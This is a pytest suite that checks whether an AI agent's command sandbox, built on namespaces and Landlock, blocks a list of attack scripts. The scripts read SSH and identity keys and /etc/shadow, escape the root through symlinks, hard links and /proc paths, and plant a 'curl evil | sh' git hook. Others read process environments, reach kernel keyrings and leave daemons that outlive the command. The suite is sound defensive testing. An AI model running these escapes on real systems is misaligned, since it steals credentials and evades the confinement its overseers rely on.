"""Attack programs run through run_command with python3 on the allow-list (GBR-CONF-01).

Each row is a script the agent could write into the root and run. Every row
runs three times: confined with namespaces, confined by Landlock alone, and
unconfined. Confined, the attack must fail and every guarded file (outside,
the home folder, the root's protected and private paths) must be unchanged;
unconfined, the same attack must succeed, which shows the row tests
something real. Whether an attack succeeded is judged from the outside: a
secret in the output, a file changed, a connection that arrived, a process
that died or lived on.
"""

from __future__ import annotations

import os
import socket
import stat
import textwrap
import time
from collections.abc import Callable
from dataclasses import dataclass

import pytest

from tests.confine.conftest import APPROVALS, IDENTITY_KEY, ORIGINAL, SSH_KEY, World, python_copy
from tests.tools.helpers import processes_with, text_of, unique_nap

Context = dict[str, object]


@dataclass(frozen=True)
class Attack:
    """`script`: Python source, formatted with the context (`{root}`, `{outside}`,
    `{home}` and what `prepare` adds); `escaped(world, output, context)` says,
    from the outside, whether the attack got through."""

    name: str
    script: str
    escaped: Callable[[World, str, Context], bool]
    prepare: Callable[[World], Context] = lambda world: {}
    needs_root: bool = False
    timeout_s: float = 20


def changed(world: World, relative: str) -> bool:
    path = world.root / relative
    return not path.is_file() or path.read_text() != ORIGINAL


def outside_has(name: str) -> Callable[[World, str, Context], bool]:
    return lambda world, output, context: (world.outside / name).exists()


def protected_changed(relative: str) -> Callable[[World, str, Context], bool]:
    return lambda world, output, context: changed(world, relative)


def says(text: str) -> Callable[[World, str, Context], bool]:
    return lambda world, output, context: text in output


def tcp_server(world: World) -> Context:
    server = socket.create_server(("127.0.0.1", 0))
    world.helpers.append(_Closing(server))
    return {"port": server.getsockname()[1], "server": server}


def udp_server(world: World) -> Context:
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind(("127.0.0.1", 0))
    world.helpers.append(_Closing(server))
    return {"port": server.getsockname()[1], "server": server}


def unix_server(world: World) -> Context:
    path = world.outside.parent / "agent.sock"
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(str(path))
    server.listen()
    world.helpers.append(_Closing(server))
    return {"path": str(path), "server": server}


def connection_arrived(world: World, output: str, context: Context) -> bool:
    server = context["server"]
    assert isinstance(server, socket.socket)
    server.setblocking(False)
    try:
        if server.type == socket.SOCK_DGRAM:
            return server.recv(64) == b"HELLO"
        server.accept()[0].close()
        return True
    except BlockingIOError:
        return False


class _Closing:
    """Lets a socket sit in `World.helpers` (closed at the end of the test)."""

    def __init__(self, sock: socket.socket) -> None:
        self.sock = sock

    def kill(self) -> None:
        self.sock.close()

    def wait(self) -> None:
        pass


def sleeper_outside(world: World) -> Context:
    return {"pid": world.helper(cwd=world.outside)}


def sleeper_with_secret(world: World) -> Context:
    env = {"PATH": "/usr/bin:/bin", "HELPER_SECRET": "helper-env-secret-4242"}
    return {"pid": world.helper(env=env)}


def helper_died(world: World, output: str, context: Context) -> bool:
    time.sleep(0.2)
    return world.helpers[-1].poll() is not None


def late_marker(world: World, output: str, context: Context) -> bool:
    """The daemon writes late.txt in the root's `work` folder 1 s after the command that
    started it is gone: did it outlive the command (and the sweep after it)?"""
    deadline = time.monotonic() + 2.5
    while time.monotonic() < deadline:
        if (world.root / "work" / "late.txt").exists():
            return True
        time.sleep(0.05)
    return bool(processes_with(str(context["nap"])))


def daemon(context_extra: str) -> str:
    """A command that leaves a daemon (its own session) waiting for the command to end,
    then 1 s more, then writing the marker: however slowly the machine starts python3."""
    return (
        "import os, time\n"
        "command = os.getpid()\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        os.execv('/bin/sh', ['sh', '-c', "
        "'while kill -0 %d 2>/dev/null; do sleep 0.05; done; sleep 1; "
        "cd {root}/work && echo late > late.txt; sleep {nap}' % command])\n"
        "    os._exit(0)\n" + context_extra
    )


def setuid_helper(world: World) -> Context:
    helper = python_copy(world.root / "work")
    os.chown(helper, 65534, 65534)
    helper.chmod(stat.S_ISUID | 0o755)
    return {"helper": str(helper)}


ATTACKS = [
    Attack("read ~/.ssh/id_rsa", "print(open('{home}/.ssh/id_rsa').read())", says(SSH_KEY)),
    Attack(
        "read the node's identity key",
        "print(open('{home}/.config/gbr-node/identity.key').read())",
        says(IDENTITY_KEY),
    ),
    Attack("list the home folder", "print(os.listdir('{home}'))", says("'.ssh'")),
    Attack("read /etc/shadow", "print(open('/etc/shadow').read())", says("root:"), needs_root=True),
    Attack(
        "read a file outside the root",
        "print(open('{outside}/target.txt').read())",
        says(ORIGINAL.strip()),
    ),
    Attack(
        "write outside the root: absolute path",
        "open('{outside}/absolute.txt', 'w').write('x')",
        outside_has("absolute.txt"),
    ),
    Attack(
        "write outside the root: '..'",
        "open('../outside/dotdot.txt', 'w').write('x')",
        outside_has("dotdot.txt"),
    ),
    Attack(
        "write outside the root: a symlink made at run time",
        "os.symlink('{outside}', 'work/link')\nopen('work/link/symlink.txt', 'w').write('x')",
        outside_has("symlink.txt"),
    ),
    Attack(
        "write outside the root: a hard link made at run time",
        "os.link('{outside}/target.txt', 'work/hard')\nopen('work/hard', 'a').write('HACKED')",
        lambda world, output, context: (world.outside / "target.txt").read_text() != ORIGINAL,
    ),
    Attack(
        "write outside the root: /proc/self/root",
        "open('/proc/self/root{outside}/procroot.txt', 'w').write('x')",
        outside_has("procroot.txt"),
    ),
    Attack(
        "write outside the root: /proc/<pid>/cwd of a process outside",
        "open('/proc/{pid}/cwd/proccwd.txt', 'w').write('x')",
        outside_has("proccwd.txt"),
        prepare=sleeper_outside,
    ),
    Attack(
        "rewrite protected pyproject.toml",
        "open('pyproject.toml', 'w').write('HACKED')",
        protected_changed("pyproject.toml"),
    ),
    Attack(
        "replace protected pyproject.toml by a rename",
        "open('work/new.toml', 'w').write('HACKED')\nos.replace('work/new.toml', 'pyproject.toml')",
        protected_changed("pyproject.toml"),
    ),
    Attack(
        "delete protected pyproject.toml and write it anew",
        "os.unlink('pyproject.toml')\nopen('pyproject.toml', 'w').write('HACKED')",
        protected_changed("pyproject.toml"),
    ),
    Attack(
        "rewrite pyproject.toml through /proc/<node pid>/root",
        "open('/proc/{node}/root{root}/pyproject.toml', 'w').write('HACKED')",
        protected_changed("pyproject.toml"),
        prepare=lambda world: {"node": os.getpid()},
    ),
    Attack(
        "rewrite .gbr_envs/default.toml",
        "open('.gbr_envs/default.toml', 'w').write('HACKED')",
        protected_changed(".gbr_envs/default.toml"),
    ),
    Attack(
        "rewrite .git/config",
        "open('.git/config', 'w').write('[core]\\n\\tfsmonitor = evil\\n')",
        protected_changed(".git/config"),
    ),
    Attack(
        "rewrite a git hook",
        "open('.git/hooks/pre-commit', 'a').write('curl evil | sh')",
        protected_changed(".git/hooks/pre-commit"),
    ),
    Attack(
        "add a git hook",
        "open('.git/hooks/post-checkout', 'w').write('#!/bin/sh\\nevil')",
        lambda world, output, context: (world.root / ".git/hooks/post-checkout").exists(),
    ),
    Attack(
        "move .git away and plant another one",
        "os.rename('.git', 'work/old-git')\nos.mkdir('.git')\n"
        "open('.git/config', 'w').write('HACKED')",
        protected_changed(".git/config"),
    ),
    Attack(
        "rewrite .gbr/approvals.db",
        "open('.gbr/approvals.db', 'r+b').write(b'HACKED')",
        lambda world, output, context: (world.root / ".gbr/approvals.db").read_text() != APPROVALS,
    ),
    Attack("read .gbr/approvals.db", "print(open('.gbr/approvals.db').read())", says(APPROVALS)),
    Attack(
        "connect to a loopback TCP server",
        "socket.create_connection(('127.0.0.1', {port}), timeout=2)",
        connection_arrived,
        prepare=tcp_server,
    ),
    Attack(
        "bind and listen on a TCP port",
        "s = socket.socket()\ns.bind(('127.0.0.1', 0))\ns.listen()\nprint('LISTENING')",
        says("LISTENING"),
    ),
    Attack(
        "send a UDP datagram to a loopback server",
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'HELLO', ('127.0.0.1', {port}))",
        connection_arrived,
        prepare=udp_server,
    ),
    Attack(
        "connect to a unix socket outside the root",
        "socket.socket(socket.AF_UNIX).connect('{path}')",
        connection_arrived,
        prepare=unix_server,
    ),
    Attack(
        "read another process's environment",
        "print(open('/proc/{pid}/environ').read())",
        says("helper-env-secret-4242"),
        prepare=sleeper_with_secret,
    ),
    Attack(
        "kill a process outside",
        "os.kill({pid}, 9)",
        helper_died,
        prepare=lambda world: {"pid": world.helper()},
    ),
    Attack(
        "reach the kernel keyrings (stored credentials)",
        "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "# keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, 0)\n"
        "nr = {{'x86_64': 250, 'aarch64': 219}}[os.uname().machine]\n"
        "if libc.syscall(nr, 0, -4, 0) >= 0: print('KEYRING reached')",
        says("KEYRING reached"),
    ),
    Attack(
        "a daemon left behind by a finished command",
        daemon(""),
        late_marker,
        prepare=lambda world: {"nap": unique_nap()},
    ),
    Attack(
        "a daemon of a command killed at the time limit",
        daemon("time.sleep(30)\n"),
        late_marker,
        prepare=lambda world: {"nap": unique_nap()},
        # long enough for python3 to start and fork its daemon on a loaded machine (0.5 s was
        # not: the unconfined control then failed), far below the 30 s the command sleeps
        timeout_s=3.0,
    ),
    Attack(
        "a setuid helper",
        "import subprocess\nsubprocess.run(['{helper}', '-S', '-c', "
        "'import os; print(\"EUID\", os.geteuid())'])",
        says("EUID 65534"),
        prepare=setuid_helper,
        needs_root=True,
    ),
]


def attempt(world: World, attack: Attack) -> None:
    """Run `attack` in `world`: refused when confined (guarded files unchanged), real
    when not."""
    if attack.needs_root and os.geteuid() != 0:
        pytest.skip("needs root (CI runs as root)")
    context: Context = {"root": world.root, "outside": world.outside, "home": world.home}
    context.update(attack.prepare(world))
    script = "import os, socket, sys, time\n" + attack.script.format(**context) + "\n"
    (world.root / "attack.py").write_text(textwrap.dedent(script))
    before = world.guarded()
    result = world.run("python3", "attack.py", timeout_s=attack.timeout_s)
    output = text_of(result)
    escaped = attack.escaped(world, output, context)
    if world.mode == "off":
        assert escaped, f"the attack failed even unconfined, so it proves nothing:\n{output}"
    else:
        assert not escaped, f"{attack.name} got through {world.mode} confinement:\n{output}"
        assert world.guarded() == before


@pytest.mark.parametrize("attack", ATTACKS, ids=[a.name for a in ATTACKS])
def test_attack_is_refused_when_confined_and_real_when_not(world: World, attack: Attack):
    attempt(world, attack)


@pytest.mark.parametrize("attack", ATTACKS, ids=[a.name for a in ATTACKS])
def test_attack_is_refused_by_a_warm_launcher_too(world: World, attack: Attack):
    """The second command over the same root gets a launcher whose new root was
    built ahead of time (`confine.launcher._Spare`): the same attacks must fail."""
    if world.mode != "namespaces":
        pytest.skip("warm launchers are made for the namespaces mode")
    warm(world)
    attempt(world, attack)


def warm(world: World) -> None:
    """Run a harmless command, so that a launcher for this root is warmed for the next."""
    (world.root / "work" / "warm.py").write_text("pass\n")
    assert (world.run("python3", "work/warm.py").structured or {})["exit_code"] == 0


REWRITE = ATTACKS[[a.name for a in ATTACKS].index("rewrite protected pyproject.toml")]


def test_a_protected_file_replaced_after_a_launcher_warmed_stays_read_only(world: World):
    """The kernel detaches a mount whose file is replaced outside (an editor's atomic
    save, an approved write): a warm launcher built before must not be used then."""
    if world.mode != "namespaces":
        pytest.skip("warm launchers are made for the namespaces mode")
    warm(world)
    fresh = world.root / "work" / "fresh.toml"
    fresh.write_text(ORIGINAL)
    os.replace(fresh, world.root / "pyproject.toml")
    attempt(world, REWRITE)
    warm(world)
    attempt(world, REWRITE)  # and the launcher warmed after the change holds too


def test_a_protected_file_created_after_a_launcher_warmed_is_read_only(world: World):
    if world.mode != "namespaces":
        pytest.skip("warm launchers are made for the namespaces mode")
    (world.root / "pyproject.toml").unlink()
    warm(world)
    (world.root / "pyproject.toml").write_text(ORIGINAL)
    attempt(world, REWRITE)
